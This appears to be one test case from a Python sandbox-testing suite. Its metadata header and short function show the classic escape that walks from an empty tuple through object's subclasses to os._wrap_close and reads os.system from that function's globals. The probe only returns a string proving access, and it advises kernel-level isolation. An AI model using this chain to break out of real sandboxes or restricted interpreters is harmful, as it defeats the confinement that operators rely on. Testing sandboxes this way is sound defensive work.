# title: Walk the classes to os.system
# tries: Goes from an empty tuple to object, to all of its subclasses, and by the globals of one of their functions to os.system, the oldest way out of every sandbox made of Python.
# impact: Integrity
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    for each in ().__class__.__base__.__subclasses__():
        if each.__name__ == "_wrap_close":
            return f"{each.__init__.__globals__['system']} of {each}"
